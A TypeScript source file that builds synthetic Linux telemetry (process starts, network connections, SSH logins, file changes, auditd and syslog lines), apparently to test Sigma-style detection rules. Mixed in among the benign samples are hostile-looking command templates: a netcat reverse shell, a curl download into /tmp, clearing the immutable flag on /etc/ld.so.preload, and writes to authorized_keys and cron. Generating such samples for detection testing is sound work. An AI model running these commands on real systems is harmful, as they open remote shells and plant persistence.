/** Events of Linux hosts: declared process, connection and login events, and files, audit records and log lines. */
import { eventSpecs } from '#shared/events/registry.gen.ts';
import type { EventSpec, Logsource } from '#shared/schema/spec.ts';
import { declaredSchema, openSchema } from '#shared/sigma/index.ts';
import type { Row } from './columns.ts';
import type { Source } from './lanes.ts';
import { fill, Mix, type Random } from './templates.ts';

/** Program, its parent, and arguments. */
const commands = new Mix<readonly [executable: string, parent: string, line: string]>(
  [
    ['/usr/bin/bash', '/usr/sbin/cron', 'bash /opt/jobs/{word}{n}.sh'],
    ['/usr/bin/grep', '/usr/bin/bash', 'grep -q {word}{n} /srv/{word}/{word}.log'],
    ['/usr/bin/sed', '/usr/bin/bash', 'sed -e s/{word}/{word}{n}/g /srv/{word}.{hex}'],
    ['/usr/bin/cat', '/usr/bin/bash', 'cat /proc/{pid}/stat'],
    ['/usr/bin/git', '/usr/bin/node', 'git fetch --prune origin {word}/{hex}'],
    ['/usr/bin/python3', '/usr/lib/systemd/systemd', 'python3 /srv/app/{word}.py --id {guid} --level {n}'],
    ['/usr/bin/awk', '/usr/bin/bash', 'awk -f /srv/{word}.awk /var/lib/{word}/{hex}.csv'],
    ['/usr/bin/ls', '/usr/bin/bash', 'ls -la /home/{user}/src/{word}{n}'],
    [
      '/usr/bin/gcc',
      '/usr/bin/make',
      'gcc -O2 -c -o build/{word}{n}.o src/{word}{n}.c -I/usr/include/{word}',
    ],
    ['/usr/bin/node', '/usr/lib/systemd/systemd', 'node /srv/{word}/server.js --port {port}'],
    ['/usr/bin/systemctl', '/usr/bin/bash', 'systemctl is-active {word}{n}.service'],
    ['/usr/bin/tar', '/usr/sbin/cron', 'tar -czf /backup/{word}-{hex}.tar.gz -C /srv {word}'],
    ['/usr/bin/make', '/usr/bin/bash', 'make -j4 {word}{n}'],
    ['/usr/sbin/cron', '/usr/lib/systemd/systemd', '/usr/sbin/cron -f'],
    ['/usr/bin/ssh', '/usr/bin/python3', 'ssh -o BatchMode=yes {user}@{ip} uptime'],
    ['/usr/bin/date', '/usr/bin/bash', 'date +%s.{n}'],
    ['/usr/bin/sort', '/usr/bin/bash', 'sort -u -o /srv/{word}/{hex} /srv/{word}/{hex}'],
    ['/usr/bin/psql', '/usr/bin/python3', 'psql -h {ip} -d {word} -c SELECT {n}'],
    ['/usr/bin/dpkg-query', '/usr/bin/python3', 'dpkg-query -W lib{word}{n}'],
    ['/usr/sbin/sshd', '/usr/sbin/sshd', 'sshd: {user}@pts/{n}'],
  ],
  [
    ['/usr/bin/nc', '/usr/bin/bash', 'nc -e /bin/sh {ip} {port}'],
    ['/usr/bin/base64', '/usr/bin/bash', 'base64 -d /tmp/{hex}'],
    ['/usr/bin/chattr', '/usr/bin/bash', 'chattr -i /etc/ld.so.preload'],
    ['/usr/bin/crontab', '/usr/bin/bash', 'crontab -l -u {user}'],
    ['/usr/bin/curl', '/usr/bin/bash', 'curl -s -o /tmp/{hex} http://{domain}/{hex}'],
    ['/usr/bin/id', '/usr/bin/bash', 'id {user}'],
  ],
);

function who(random: Random): Row {
  return { 'user.name': fill('{user}', random), 'user.id': String(Math.floor(random() * 10) * 100) };
}

function processStart(random: Random): Row {
  const [executable, parent, template] = commands.pick(random);
  return {
    'process.pid': Math.floor(random() * 65_536),
    'process.entity_id': fill('{hex}{hex}', random),
    'process.start': 1_760_000_000_000_000 + Math.floor(random() * 1e9),
    'process.name': executable.slice(executable.lastIndexOf('/') + 1),
    'process.executable': executable,
    'process.command_line': fill(template, random),
    'process.working_directory': fill(random() < 0.5 ? '/home/{user}' : '/srv/{word}', random),
    'process.parent.pid': Math.floor(random() * 65_536),
    'process.parent.entity_id': fill('{hex}', random),
    'process.parent.name': parent.slice(parent.lastIndexOf('/') + 1),
    'process.parent.executable': parent,
    'process.parent.command_line': fill(`${parent} /opt/jobs/{word}{n}.sh`, random),
    'process.session_id': Math.floor(random() * 500),
    ...who(random),
  };
}

function processEnd(random: Random): Row {
  const [executable] = commands.pick(random);
  return {
    'process.pid': Math.floor(random() * 65_536),
    'process.entity_id': fill('{hex}{hex}', random),
    'process.name': executable.slice(executable.lastIndexOf('/') + 1),
    'process.executable': executable,
    ...who(random),
  };
}

const talkers = new Mix(
  [
    '/usr/bin/node',
    '/usr/bin/python3',
    '/usr/sbin/sshd',
    '/usr/bin/psql',
    '/usr/lib/systemd/systemd-resolved',
  ],
  ['/usr/bin/bash', '/usr/bin/nc'],
);
const ports = new Mix([443, 80, 53, 5432, 6379, 22, 8080, 3128, 9200, 25], [4444, 1337]);

function connection(random: Random): Row {
  const executable = talkers.pick(random);
  return {
    'event.action': random() < 0.5 ? 'connected' : 'closed',
    'network.transport': random() < 0.9 ? 'tcp' : 'udp',
    'network.initiated': random() < 0.7,
    'source.ip': fill('{ip}', random),
    'source.port': 32_768 + Math.floor(random() * 28_000),
    'destination.ip': fill('{ip}', random),
    'destination.port': ports.pick(random),
    'process.pid': Math.floor(random() * 65_536),
    'process.entity_id': fill('{hex}{hex}', random),
    'process.executable': executable,
    'process.command_line': fill(`${executable} --{word} {n}`, random),
    ...who(random),
  };
}

function login(random: Random): Row {
  const failed = random() < 0.1;
  return {
    'event.action': failed ? 'failed' : 'login',
    'log.source': 'auth-log',
    'process.name': 'sshd',
    'event.outcome': failed ? 'failure' : 'success',
    'source.ip': fill('{ip}', random),
    message: fill(
      failed
        ? 'Failed password for {user} from {ip} port {port} ssh2'
        : 'Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{sha}',
      random,
    ),
    ...who(random),
  };
}

const files = new Mix(
  [
    '/var/lib/{word}/{hex}.db-wal',
    '/srv/{word}.{hex}',
    '/home/{user}/.cache/{word}/{sha}',
    '/srv/{word}/out/{guid}.json',
    '/var/log/{word}.log.{n}',
  ],
  ['/etc/cron.d/{word}{n}', '/etc/profile.d/{word}.sh', '/root/.ssh/authorized_keys'],
);

function fileChange(random: Random): Row {
  return {
    TargetFilename: fill(files.pick(random), random),
    Image: commands.pick(random)[0],
    User: fill('{user}', random),
  };
}

function auditRecord(random: Random): Row {
  const [executable, , template] = commands.pick(random);
  const args = fill(template, random).split(' ').slice(0, 6);
  const kind = random();
  if (kind < 0.5) return { type: 'EXECVE', ...Object.fromEntries(args.map((a, i) => [`a${i}`, a])) };
  if (kind < 0.8)
    return {
      type: 'SYSCALL',
      syscall: random() < 0.8 ? 'openat' : 'connect',
      exe: executable,
      comm: args[0],
      key: fill('{word}', random),
      auid: fill('{n}', random),
    };
  return { type: 'PATH', name: fill(files.pick(random), random), nametype: 'NORMAL' };
}

const lines = new Mix(
  [
    'systemd[1]: Started {word}{n}.service - {word} {guid}.',
    'CRON[{pid}]: (root) CMD (/opt/jobs/{word}{n}.sh)',
    'kernel: [{n}.{pid}] eth0: link up, {n} Mbps',
    'sshd[{pid}]: Connection closed by {ip} port {port} [preauth]',
    'postgres[{pid}]: LOG: duration: {n}.{n} ms statement: SELECT * FROM {word} WHERE id = {pid}',
    'nginx: {ip} - - "GET /{word}/{guid} HTTP/1.1" 200 {pid}',
    'sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/{word}',
  ],
  ['kernel: [{n}.{pid}] {word}[{pid}]: segfault at 0 ip {hex} sp {hex} error 4'],
);

/** Declared events; as JSON their fields have Sigma's names. */
function declared(type: keyof typeof eventSpecs, share: number, make: Source['make']): Source {
  const spec: EventSpec = eventSpecs[type];
  return {
    ...{ share, type, make, schema: declaredSchema(spec, 'linux') },
    logsource: { product: 'linux', ...spec.logsource },
    nameOf: (field) => spec.fields[field]?.sigma?.[0] ?? field,
  };
}

function open(type: string, logsource: Logsource, share: number, make: Source['make']): Source {
  return { share, type, make, logsource, schema: openSchema(logsource) };
}

export const linuxMixed: readonly Source[] = [
  declared('process.start', 0.45, processStart),
  declared('process.end', 0.1, processEnd),
  declared('network.connection', 0.2, connection),
  declared('login', 0.05, login),
  open('file', { product: 'linux', category: 'file_event' }, 0.1, fileChange),
  open('auditd', { product: 'linux', service: 'auditd' }, 0.05, auditRecord),
  open('syslog', { product: 'linux', service: 'syslog' }, 0.05, (random) => ({
    message: fill(lines.pick(random), random),
    host: fill('web{n}', random),
  })),
];
